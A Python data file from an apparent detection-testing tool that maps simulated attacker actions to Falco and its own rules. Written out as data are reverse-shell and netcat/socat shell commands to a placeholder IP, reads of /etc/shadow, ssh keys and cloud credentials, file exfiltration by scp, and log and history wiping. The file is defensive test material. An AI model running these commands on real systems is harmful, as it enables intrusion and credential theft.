"""The attack list: what is done, where, and what must be said about it. Data only.

A command's words are programs (see `live_programs`), `{work}` (a folder with the files of `WORK`) and `{bin}`
(the folder of the programs). On the host, whatever a command names that has `tiercel-live` in it is removed
afterwards; everything else is left as it was.

`stock` names the rules of Falco's three files (`falco_rules`, `incubating`, `sandbox`) whose conditions hold
for the action by their text, whether or not Falco's own probe sees it; `own` those of Tiercel. Where Falco
has none, `why` says so.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import StrEnum

WORK = {
    ".bash_history": "ls\n",
    ".zsh_history": "ls\n",
    ".ash_history": "ls\n",
    ".bashrc": "# none\n",
    ".profile": "# none\n",
    "auth.log": "none\n",
    "syslog": "none\n",
    "notes": "none\n",
    "mode": "none\n",
    "liblzma.so.5.6.1": "none\n",
}


class Place(StrEnum):
    HOST = "host"
    CONTAINER = "container"
    PRIVILEGED = "privileged container"


EVERYWHERE = (Place.HOST, Place.CONTAINER)
HOST = (Place.HOST,)
CONTAINER = (Place.CONTAINER,)
PRIVILEGED = (Place.PRIVILEGED,)


@dataclass(frozen=True, slots=True)
class Action:
    """One thing that attackers do. `refused`: the kernel says no here, and the attempt is what is seen."""

    name: str
    does: str
    command: str
    stock: tuple[str, ...] = ()
    places: tuple[Place, ...] = EVERYWHERE
    host: tuple[str, ...] = ()  # stock rules that hold on the host only
    container: tuple[str, ...] = ()  # in containers only
    own: tuple[str, ...] = ()
    own_host: tuple[str, ...] = ()
    own_container: tuple[str, ...] = ()
    why: str = ""
    refused: bool = False
    terminal: bool = False
    env: tuple[str, ...] = ()  # NAME=value
    unseen: str = ""  # why no rule speaks, neither Falco's nor ours
    needs: str = ""  # a file without which this kernel cannot do it

    def stock_at(self, place: Place) -> tuple[str, ...]:
        return self.stock + (self.host if place is Place.HOST else self.container)

    def own_at(self, place: Place) -> tuple[str, ...]:
        return self.own + (self.own_host if place is Place.HOST else self.own_container)


SHADOW = "Read sensitive file untrusted"
REDIRECT = "Redirect STDOUT/STDIN to Network Connection in Container"
BELOW_ETC = "Write below etc"

READS = (
    Action(
        "shadow",
        "reads /etc/shadow",
        "reads openat /etc/shadow",
        (SHADOW,),
        own_container=("Credential file read in a container",),
    ),
    Action("pam", "reads a file of PAM's", "reads openat /etc/pam.d/common-auth", (SHADOW,)),
    Action(
        "shadow-rdwr",
        "opens /etc/shadow for reading and writing",
        "reads rdwr /etc/shadow",
        (SHADOW, BELOW_ETC),
    ),
    Action(
        "traversal",
        "reads /etc/passwd by way of ../..",
        "reads openat {work}/../../../../../etc/passwd",
        ("Directory traversal monitored file read",),
    ),
    Action(
        "late",
        "reads /etc/shadow as a web server, seconds after its start",
        "reads:nginx late /etc/shadow",
        ("Read sensitive file trusted after startup", SHADOW),
        HOST,
    ),
    Action(
        "ssh-key",
        "reads a user's ssh key",
        "reads openat /home/someone-tiercel-live/.ssh/id_rsa",
        ("Read ssh information",),
    ),
    Action(
        "kube-token",
        "reads the token of the pod's service account",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        (),
        CONTAINER,
        own=("Key or token read by a tool",),
        why="Falco has no rule on it",
    ),
    Action(
        "cloud-credentials",
        "reads the credentials of a cloud",
        "cat /root/.aws/credentials",
        (),
        CONTAINER,
        own=("Key or token read by a tool",),
        why="Falco watches only who looks for them",
    ),
    Action(
        "environ",
        "reads another process's environment",
        "reads openat /proc/1/environ",
        (),
        CONTAINER,
        container=("Read environment variable from /proc files",),
        own=("Environment of another process read",),
    ),
    Action(
        "kcore",
        "opens the kernel's memory",
        "reads openat /proc/kcore",
        (),
        PRIVILEGED,
        own=("Raw disk or memory opened in a container",),
        why="Falco's rule knows /dev/mem only",
        needs="/proc/kcore",
    ),
    Action(
        "host-files",
        "reads a file of the host's that is mounted below /host",
        "reads openat /host/secret",
        (),
        PRIVILEGED,
        container=("Container Access to Host Sensitive Paths",),
    ),
    Action(
        "device",
        "reads a disk's first bytes",
        "reads openat /dev/vdz",
        (),
        PRIVILEGED,
        container=("Privileged Container Device Access",),
        own=("Raw disk or memory opened in a container",),
    ),
    Action(
        "grep-keys",
        "looks for private keys",
        'nothing:grep -r "BEGIN RSA PRIVATE" /',
        ("Search Private Keys or Passwords",),
    ),
    Action(
        "find-keys",
        "looks for ssh keys",
        "nothing:find / -name id_rsa",
        ("Search Private Keys or Passwords",),
    ),
    Action(
        "grep-aws",
        "looks for keys of AWS",
        "nothing:grep -r aws_secret_access_key /",
        ("Find AWS Credentials",),
    ),
    Action(
        "find-aws",
        "looks for the credentials of AWS",
        "nothing:find / -path */.aws/credentials",
        ("Find AWS Credentials",),
    ),
    Action(
        "copy-out",
        "takes files out of a container, as kubectl cp does",
        "reads:tar openat /work/notes",
        (),
        CONTAINER,
        container=("Exfiltrating Artifacts via Kubernetes Control Plane",),
    ),
)

WRITES = (
    Action("etc", "writes a file below /etc", "writes create /etc/tiercel-live", (BELOW_ETC,)),
    Action(
        "etc-creat",
        "creates a file below /etc with creat",
        "writes creat /etc/tiercel-live-creat",
        (),
        own=(),
        why="Falco's rules on writing leave creat out",
        unseen="creat is not among the calls that Falco's and Tiercel's rules on writing below /etc name",
    ),
    Action("etc-openat2", "writes a file below /etc", "writes openat2 /etc/tiercel-live-2", (BELOW_ETC,)),
    Action(
        "bin",
        "writes a file below /usr/bin",
        "writes create /usr/bin/tiercel-live",
        ("Write below binary dir",),
        own_host=("Program of the host written",),
    ),
    Action(
        "bin-link",
        "writes a file below /bin, which may be a link",
        "writes create /bin/tiercel-live-2",
        ("Write below binary dir",),
    ),
    Action(
        "lib",
        "writes a file below /usr/lib",
        "writes create /usr/lib/tiercel-live",
        ("Write below monitored dir",),
    ),
    Action(
        "rpm",
        "writes into rpm's database",
        "writes create /var/lib/rpm/tiercel-live",
        ("Write below rpm database",),
    ),
    Action(
        "dpkg",
        "writes into dpkg's database",
        "writes create /var/lib/dpkg/tiercel-live",
        (),
        why="Falco watches rpm's only",
    ),
    Action(
        "sources",
        "changes where packages come from",
        "writes create /etc/apt/sources.list.d/tiercel-live.list",
        ("Update Package Repository", BELOW_ETC),
        own=("Package signing or source changed",),
    ),
    Action("root", "writes a file into /", "writes create /tiercel-live", ("Write below root",)),
    Action(
        "root-home",
        "writes a file into root's home",
        "writes create /root/tiercel-live",
        ("Write below root",),
    ),
    Action("dev", "makes a file below /dev", "writes create /dev/tiercel-live", ("Create files below dev",)),
    Action(
        "cron",
        "plants a cron job",
        "writes create /etc/cron.d/tiercel-live",
        ("Schedule Cron Jobs", BELOW_ETC),
    ),
    Action("crontab", "edits a crontab", "nothing:crontab -e", ("Schedule Cron Jobs",)),
    Action(
        "shell-config",
        "changes a shell's start-up file",
        "writes append {work}/.bashrc",
        ("Modify Shell Configuration File",),
    ),
    Action(
        "authorized-keys",
        "adds a key to those that may log in",
        "writes create /home/someone-tiercel-live/.ssh/authorized_keys",
        ("Adding ssh keys to authorized_keys",),
    ),
    Action(
        "preload",
        "plants a library that every program loads",
        "writes create /etc/ld.so.preload",
        (BELOW_ETC,),
        CONTAINER,
        own=("Library forced into programs",),
    ),
    Action(
        "core-pattern",
        "opens the kernel's hook for core dumps for writing",
        "writes touch /proc/sys/kernel/core_pattern",
        (),
        PRIVILEGED,
        own=("Escape hook of the kernel written",),
        why="Falco has no rule on it",
    ),
    Action(
        "sysrq",
        "opens the kernel's sysrq trigger for writing",
        "writes touch /proc/sysrq-trigger",
        (),
        PRIVILEGED,
        own=("Escape hook of the kernel written",),
        why="Falco has no rule on it",
        needs="/proc/sysrq-trigger",
    ),
    Action(
        "release-agent",
        "writes a cgroup's release_agent",
        "writes create {work}/release_agent",
        (),
        PRIVILEGED,
        container=("Detect release_agent File Container Escapes",),
        own=("Escape hook of the kernel written",),
    ),
    Action(
        "own-program",
        "opens the program of a running process for writing",
        "writes touch /proc/self/exe",
        (),
        CONTAINER,
        why="Falco's rule is switched off",
        refused=True,
        unseen="the kernel refuses it, nothing is written",
    ),
    Action("log-emptied", "empties a log", "writes empty {work}/auth.log", ("Clear Log Activities",)),
    Action(
        "log-truncated",
        "empties a log by truncate",
        "writes truncate {work}/syslog",
        (),
        why="Falco's rule knows opening with O_TRUNC only",
        unseen="truncate is an event without arguments in Falco's table, so no rule can ask for its path",
    ),
    Action(
        "history-removed",
        "removes a shell's history",
        "names unlink {work}/.bash_history",
        ("Delete or rename shell history",),
        own=("Shell history removed",),
    ),
    Action(
        "history-renamed",
        "renames a shell's history",
        "names renameat2 {work}/.zsh_history {work}/gone",
        ("Delete or rename shell history",),
        own=("Shell history removed",),
    ),
    Action(
        "history-emptied",
        "empties a shell's history",
        "writes empty {work}/.ash_history",
        ("Delete or rename shell history",),
    ),
    Action("shred", "overwrites data", "nothing:shred -u /srv/none", ("Remove Bulk Data from Disk",)),
)

NAMES = (
    Action(
        "symlink",
        "lays a link over /etc/shadow",
        "names symlink /etc/shadow {work}/link-1",
        ("Create Symlink Over Sensitive Files",),
        own=("Symlink over a sensitive file",),
    ),
    Action(
        "symlinkat",
        "lays a link over /etc",
        "names symlinkat /etc {work}/link-2",
        ("Create Symlink Over Sensitive Files",),
    ),
    Action(
        "link",
        "gives /etc/shadow a second name",
        "names link /etc/shadow /etc/tiercel-live-hard",
        ("Create Hardlink Over Sensitive Files",),
        own=("Hard link over a sensitive file",),
    ),
    Action(
        "linkat",
        "gives /etc/shadow a second name",
        "names linkat /etc/shadow /etc/tiercel-live-hard-2",
        ("Create Hardlink Over Sensitive Files",),
        own=("Hard link over a sensitive file",),
    ),
    Action(
        "bin-removed",
        "removes a file below /usr/bin",
        "names unlinkat /usr/bin/.none-tiercel-live",
        ("Modify binary dirs",),
        refused=True,
    ),
    Action(
        "bin-renamed",
        "renames a file below /usr/bin",
        "names rename /usr/bin/.none-tiercel-live /usr/bin/.new-tiercel-live",
        ("Modify binary dirs",),
        refused=True,
    ),
    Action(
        "bin-folder",
        "makes a folder below /usr/bin",
        "names mkdir /usr/bin/folder-tiercel-live",
        ("Mkdir binary dirs",),
    ),
    Action(
        "setuid-bit",
        "sets a program's set-user-id bit",
        "names chmod 4755 {work}/mode",
        ("Set Setuid or Setgid bit",),
        own=("Set-user-id bit set",),
    ),
    Action(
        "setuid-bit-f",
        "sets it by descriptor",
        "names fchmod 4755 {work}/mode",
        ("Set Setuid or Setgid bit",),
        own=("Set-user-id bit set",),
    ),
    Action(
        "setgid-bit-at",
        "sets the set-group-id bit",
        "names fchmodat 2755 {work}/mode",
        ("Set Setuid or Setgid bit",),
        own=("Set-user-id bit set",),
    ),
    Action(
        "setuid-bit-2",
        "sets it by the newest call",
        "names fchmodat2 4755 {work}/mode",
        (),
        (Place.HOST, Place.PRIVILEGED),
        own=("Set-user-id bit set",),
        why="Falco's rule does not know fchmodat2",
    ),
)

PROCESSES = (
    Action(
        "terminal",
        "opens a terminal",
        "sh -c :",
        (),
        CONTAINER,
        container=("Terminal shell in container",),
        own=("Terminal opened in a container",),
        terminal=True,
    ),
    Action(
        "recon",
        "asks in a terminal who it is",
        "nothing:whoami",
        ("Basic Interactive Reconnaissance",),
        terminal=True,
    ),
    Action(
        "server-shell",
        "a web server starts a shell",
        "server:nginx 0 sh -c :",
        ("Run shell untrusted", "Web Server Spawned Shell"),
        own_container=("Service starts a shell",),
        own_host=("Server on a host starts a shell",),
    ),
    Action(
        "server-child",
        "a web server starts whoami",
        "server:httpd 0 nothing:whoami",
        ("Web Server Spawned Suspicious Child Process",),
    ),
    Action(
        "server-reverse",
        "a web server starts a shell that connects back",
        'server:nginx 0 sh -c ": /dev/tcp/203.0.113.1/4444"',
        ("Reverse Shell from Web Server", "Run shell untrusted", "Web Server Spawned Shell"),
    ),
    Action(
        "db-child",
        "a database starts a program",
        "server:mysqld 0 nothing:whoami",
        ("DB program spawned process",),
    ),
    Action(
        "system-user",
        "a system's user gets a shell over ssh",
        "server:sshd 0 procs as 65534 exec sh -c :",
        (),
        HOST,
        host=("System user interactive",),
    ),
    Action(
        "packages",
        "starts a package manager",
        "nothing:apk add nmap",
        (),
        CONTAINER,
        container=("Launch Package Management Process in Container",),
        own=("Package management in a container",),
    ),
    Action(
        "packages-apt",
        "starts a package manager",
        "nothing:apt-get install nmap",
        (),
        CONTAINER,
        container=("Launch Package Management Process in Container",),
        own=("Package management in a container",),
    ),
    Action(
        "npm-tool",
        "npm's script starts a network tool",
        "server:npm 0 nothing:nc 203.0.113.1 80",
        (),
        CONTAINER,
        container=(
            "Network Tool Executed During NPM Package Install",
            "Launch Suspicious Network Tool in Container",
        ),
    ),
    Action(
        "user-added",
        "adds a user",
        "nothing:useradd mallory",
        (),
        EVERYWHERE,
        host=("User mgmt binaries",),
        own_container=("Account made in a container",),
    ),
    Action(
        "sudo", "uses sudo's old hole", "nothing:sudo -s abc\\\\", ("Sudo Potential Privilege Escalation",)
    ),
    Action(
        "pkexec",
        "uses polkit's old hole",
        "procs noargs nothing:pkexec",
        ("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",),
    ),
    Action(
        "tunables",
        "sets the loader's tunables",
        "nothing:passwd",
        ("Potential Local Privilege Escalation via Environment Variables Misuse",),
        env=("GLIBC_TUNABLES=glibc.malloc.mxfast=x",),
    ),
    Action(
        "proxy-env",
        "downloads through a proxy of its own",
        "nothing:curl http://203.0.113.1/",
        ("Program run with disallowed http proxy env",),
        env=("HTTP_PROXY=http://203.0.113.1:3128",),
    ),
    Action(
        "download",
        "downloads a file",
        "nothing:wget http://203.0.113.1/x",
        (),
        CONTAINER,
        container=("Launch Ingress Remote File Copy Tools in Container",),
    ),
    Action(
        "curl-o",
        "downloads a file",
        "nothing:curl -o /tmp/x http://203.0.113.1/x",
        (),
        CONTAINER,
        container=("Launch Ingress Remote File Copy Tools in Container",),
        own=("Download stored in a container",),
    ),
    Action(
        "scp",
        "copies to another machine",
        "nothing:scp /etc/passwd 203.0.113.1:",
        (),
        CONTAINER,
        container=("Launch Remote File Copy Tools in Container",),
    ),
    Action(
        "decode",
        "decodes a script",
        "nothing:base64 -d {work}/notes",
        (),
        CONTAINER,
        container=("Decoding Payload in Container",),
        own=("Payload decoded in a container",),
    ),
    Action(
        "kubectl",
        "asks the cluster",
        "nothing:kubectl get secrets",
        (),
        CONTAINER,
        container=("Kubernetes Client Tool Launched in Container",),
        own=("Cluster client started in a container",),
    ),
    Action("miner", "mines coins", "nothing:xmrig", ("Known Cryptominer Process Executed",)),
    Action(
        "stratum",
        "mines coins under another name",
        "nothing:kworker -o stratum+tcp://203.0.113.1:3333",
        ("Detect crypto miners using the Stratum protocol",),
    ),
    Action(
        "debugfs",
        "starts debugfs",
        "nothing:debugfs /dev/vda",
        (),
        PRIVILEGED,
        container=("Debugfs Launched in Privileged Container",),
        own=("Disk mounted in a container",),
    ),
    Action(
        "mount",
        "starts mount",
        "nothing:mount /dev/vda /mnt",
        (),
        PRIVILEGED,
        container=("Mount Launched in Privileged Container",),
        own=("Disk mounted in a container",),
    ),
    Action(
        "memfd",
        "runs a program that is no file",
        "server 0 procs memfd nothing",
        ("Fileless execution via memfd_create",),
        own=("Program runs without a file",),
    ),
    Action(
        "memfd-proc",
        "runs it through /proc/self/fd",
        "server 0 procs memfd-proc nothing",
        ("Fileless execution via memfd_create",),
        own=("Program runs without a file",),
    ),
    Action(
        "dropped",
        "copies a program in and runs it",
        'sh -c "cp {bin}/nothing /tmp/dropped && /tmp/dropped"',
        (),
        CONTAINER,
        container=("Drop and execute new binary in container",),
        own=("Program that is not in the image runs",),
    ),
    Action(
        "shm",
        "runs a program from shared memory",
        'sh -c "cp {bin}/nothing /dev/shm/tiercel-live && /dev/shm/tiercel-live; rm /dev/shm/tiercel-live"',
        ("Execution from /dev/shm",),
        HOST,
        own=("Program run from shared memory",),
    ),
    Action(
        "shm-refused",
        "tries to, where shared memory holds no programs",
        "sh -c /dev/shm/none",
        ("Execution from /dev/shm",),
        CONTAINER,
        refused=True,
    ),
    Action(
        "hidden",
        "runs a program with a hidden name",
        'sh -c "cp {bin}/nothing {work}/.x && {work}/.x"',
        (),
        EVERYWHERE,
        container=("Drop and execute new binary in container",),
        own=("Hidden program runs",),
        why="Falco has no rule on hidden programs",
    ),
    Action(
        "attach",
        "attaches to a process",
        "procs attach",
        ("PTRACE attached to process",),
        own=("Process taken over by ptrace",),
    ),
    Action(
        "seize",
        "seizes a process",
        "procs seize",
        ("PTRACE attached to process",),
        own=("Process taken over by ptrace",),
    ),
    Action(
        "poke",
        "writes into a process by ptrace",
        "procs poke",
        ("PTRACE attached to process",),
        own=("Process taken over by ptrace",),
    ),
    Action(
        "setregs",
        "sets a process's registers",
        "procs setregs",
        ("PTRACE attached to process",),
        own=("Process taken over by ptrace",),
    ),
    Action(
        "traceme",
        "keeps debuggers away",
        "procs traceme",
        ("PTRACE anti-debug attempt",),
        own_container=("Program in a container shields itself from debuggers",),
    ),
    Action(
        "mem",
        "writes into a process by /proc",
        "procs mem",
        (),
        own=("Memory of another process written",),
        why="Falco has no rule on it",
    ),
    Action(
        "vmwrite",
        "writes into a process by process_vm_writev",
        "procs vmwrite",
        (),
        why="Falco has no rule on it",
        unseen="no rule: process_vm_writev is an event without arguments, and debuggers and Wine use it",
    ),
)

PRIVILEGES = (
    Action(
        "setns",
        "enters a namespace",
        "procs setns /proc/self/ns/uts",
        ("Change thread namespace",),
        (Place.HOST, Place.PRIVILEGED),
        own_container=("Namespaces changed from inside a container",),
    ),
    Action(
        "nsenter",
        "enters the host's namespaces by name",
        "server 0 nothing:nsenter -t 1 -m -u sh",
        (),
        EVERYWHERE,
        own=("File system of another namespace entered",),
        why="Falco leaves nsenter to its rule on setns",
    ),
    Action(
        "unshare",
        "makes a user namespace",
        "procs unshare 0x10000000",
        (),
        CONTAINER,
        own=("Namespaces changed from inside a container",),
        why="Falco gives a thread with a user namespace of its own all capabilities before its rules look",
    ),
    Action(
        "chroot",
        "changes its root",
        "procs chroot /opt",
        (),
        CONTAINER,
        own=("Root directory changed inside a container",),
        why="Falco has no rule on it",
    ),
    Action(
        "setuid",
        "a user that is not root asks to be",
        "procs as 65534 setuid 0",
        (),
        HOST,
        host=("Non sudo setuid",),
        refused=True,
    ),
    Action(
        "way-back",
        "gives root up, and keeps a way back",
        "procs setresuid 1 1 0",
        (),
        own=("Root given up with a way back",),
        why="Falco has no rule on it",
    ),
    Action(
        "capset",
        "changes its capabilities",
        "procs capset",
        (),
        why="Falco has no rule on it",
        unseen="no rule: every service that gives capabilities up does it",
    ),
    Action(
        "module",
        "loads a module of the kernel",
        "kernel init-module",
        (),
        PRIVILEGED,
        container=("Linux Kernel Module Injection Detected",),
        own=("Kernel module or eBPF program loaded from a container",),
        refused=True,
    ),
    Action(
        "module-file",
        "loads a module from a file",
        "kernel finit-module {work}/notes",
        (),
        PRIVILEGED,
        container=("Linux Kernel Module Injection Detected",),
        own=("Kernel module or eBPF program loaded from a container",),
        refused=True,
    ),
    Action(
        "module-weak",
        "tries to, without the capability",
        "kernel init-module",
        (),
        CONTAINER,
        own=("Kernel module or eBPF program loaded from a container",),
        why="Falco's rule asks for CAP_SYS_MODULE",
        refused=True,
    ),
    Action(
        "bpf",
        "loads an eBPF program",
        "kernel bpf",
        ("BPF Program Not Profiled",),
        (Place.HOST, Place.PRIVILEGED),
        own_container=("Kernel module or eBPF program loaded from a container",),
    ),
    Action(
        "userfaultfd",
        "a user that is not root handles page faults",
        "kernel as 65534 userfaultfd",
        ("Unprivileged Delegation of Page Faults Handling to a Userspace Process",),
        HOST,
    ),
    Action(
        "mounted",
        "mounts a file system by the call",
        "kernel mount none /mnt tmpfs",
        (),
        PRIVILEGED,
        why="Falco knows the program mount only",
        unseen="no rule: only disks are of interest, see debugfs and mount",
    ),
    Action(
        "uring",
        "sets up io_uring",
        "kernel uring",
        (),
        (Place.HOST, Place.PRIVILEGED),
        why="Falco has no rule on it",
        unseen="no rule: databases use it; what is done through the ring is seen (see evasions)",
    ),
    Action(
        "keyring",
        "puts a key into a keyring",
        "kernel keyring",
        (),
        HOST,
        why="Falco has no rule on it",
        unseen="no rule: add_key is an event without arguments",
    ),
    Action(
        "perf",
        "opens a performance counter",
        "kernel perf",
        (),
        HOST,
        why="Falco has no rule on it",
        unseen="no rule: perf_event_open is an event without arguments",
    ),
)

NETWORK = (
    Action(
        "dup2",
        "a shell over a connection (dup2)",
        "net dup2 127.0.0.1 47101",
        (),
        CONTAINER,
        container=(REDIRECT,),
        own=("Standard input taken from the network",),
    ),
    Action(
        "dup3",
        "a shell over a connection (dup3)",
        "net dup3 127.0.0.1 47102",
        (),
        CONTAINER,
        container=(REDIRECT,),
        own=("Standard input taken from the network",),
    ),
    Action(
        "dup",
        "a shell over a connection (dup)",
        "net dup 127.0.0.1 47103",
        (),
        CONTAINER,
        container=(REDIRECT,),
        own=("Standard input taken from the network",),
    ),
    Action(
        "nc-e",
        "netcat starts a program",
        "nothing:nc 203.0.113.1 4444 -e /bin/sh",
        (),
        EVERYWHERE,
        host=("Netcat/Socat Remote Code Execution on Host", "Launch Suspicious Network Tool on Host"),
        container=(
            "Netcat Remote Code Execution in Container",
            "Launch Suspicious Network Tool in Container",
        ),
        own=("Netcat starts a program",),
    ),
    Action(
        "ncat",
        "ncat starts a program",
        "nothing:ncat 203.0.113.1 4444 --sh-exec id",
        (),
        EVERYWHERE,
        host=("Netcat/Socat Remote Code Execution on Host",),
        container=("Netcat Remote Code Execution in Container",),
    ),
    Action(
        "socat",
        "socat starts a program",
        "nothing:socat TCP:203.0.113.1:4444 EXEC:sh",
        (),
        HOST,
        host=("Netcat/Socat Remote Code Execution on Host",),
        own=("Netcat starts a program",),
    ),
    Action(
        "nmap",
        "a scanner starts",
        "nothing:nmap -sS 203.0.113.0/24",
        (),
        EVERYWHERE,
        host=("Launch Suspicious Network Tool on Host",),
        container=("Launch Suspicious Network Tool in Container",),
        own=("Network scanner started",),
    ),
    Action(
        "scan",
        "tries ports one after the other",
        "net scan 127.0.0.1 47300 47340",
        (),
        EVERYWHERE,
        why="Falco has no rule on refused connections",
        unseen="on the host and towards loopback no rule speaks: services wait for each other this way",
    ),
    Action(
        "metadata",
        "asks the cloud's metadata service",
        "net connect 169.254.169.254 80",
        (),
        CONTAINER,
        container=(
            "Contact EC2 Instance Metadata Service From Container",
            "Contact cloud metadata service from container",
        ),
        own=("Cloud metadata asked from a container",),
    ),
    Action(
        "metadata-udp",
        "asks its name service",
        "net udp 169.254.169.254 53",
        (),
        CONTAINER,
        container=(
            "Contact EC2 Instance Metadata Service From Container",
            "Contact cloud metadata service from container",
        ),
    ),
    Action(
        "kubelet",
        "connects to a kubelet",
        "net connect 198.51.100.7 10250",
        (),
        CONTAINER,
        why="Falco has no rule on it",
        unseen="no rule: see attacks sent to it in audit logs",
    ),
    Action(
        "dns",
        "asks a name server",
        "net dns 198.51.100.7 attacker.example",
        (),
        CONTAINER,
        why="Falco has no rule on it",
        unseen="no rule: everything asks name servers",
    ),
    Action(
        "udp",
        "sends datagrams to an odd port",
        "net sendto 198.51.100.7 47999",
        (),
        CONTAINER,
        why="Falco's rule asks for connect",
        unseen="no rule: a single datagram to a port of its own says nothing",
    ),
    Action(
        "udp-connect",
        "connects to an odd port for datagrams",
        "net udp 198.51.100.7 47999",
        (),
        CONTAINER,
        container=("Unexpected UDP Traffic",),
    ),
    Action(
        "shell-connects",
        "a shell connects to another machine",
        "net:bash connect 198.51.100.7 4444",
        (),
        CONTAINER,
        container=("System procs network activity",),
    ),
    Action(
        "tool-connects",
        "a program of the system connects to another machine",
        "net:cat connect 198.51.100.7 4445",
        (),
        CONTAINER,
        container=("System procs network activity",),
    ),
    Action(
        "ssh-port",
        "ssh connects to an odd port",
        "net:ssh connect 198.51.100.7 4444",
        (),
        CONTAINER,
        container=("Disallowed SSH Connection Non Standard Port",),
    ),
    Action(
        "packet",
        "opens a packet socket",
        "net packet",
        (),
        PRIVILEGED,
        container=("Packet socket created in container",),
        own=("Packet socket opened in a container",),
    ),
    Action(
        "packet-refused",
        "tries to open a packet socket",
        "net packet",
        (),
        CONTAINER,
        container=("Packet socket created in container",),
        own=("Packet socket opened in a container",),
        refused=True,
    ),
    Action(
        "raw",
        "opens a raw socket",
        "net raw",
        (),
        HOST,
        why="Falco has no rule on it",
        unseen="no rule: ping does it",
    ),
    Action(
        "docker-sock",
        "connects to the runtime's socket",
        "net unix /var/run/docker.sock",
        (),
        CONTAINER,
        own=("Runtime socket used from a container",),
        why="Falco has no rule on it",
    ),
    Action(
        "backdoor",
        "sshd loads the library with the back door",
        "reads:sshd openat {work}/liblzma.so.5.6.1",
        ("Backdoored library loaded into SSHD (CVE-2024-3094)",),
    ),
)

# What the fixtures do themselves, marked as these actions.
STARTS = (
    Action(
        "start-privileged",
        "starts a privileged container",
        "",
        ("Launch Privileged Container", "Launch Excessively Capable Container"),
        PRIVILEGED,
    ),
    Action(
        "start-mount",
        "starts a container that mounts /etc of the host",
        "",
        ("Launch Sensitive Mount Container",),
        CONTAINER,
    ),
)

ATTACKS = READS + WRITES + NAMES + PROCESSES + PRIVILEGES + NETWORK
CASES = [(action, place) for action in ATTACKS for place in action.places]
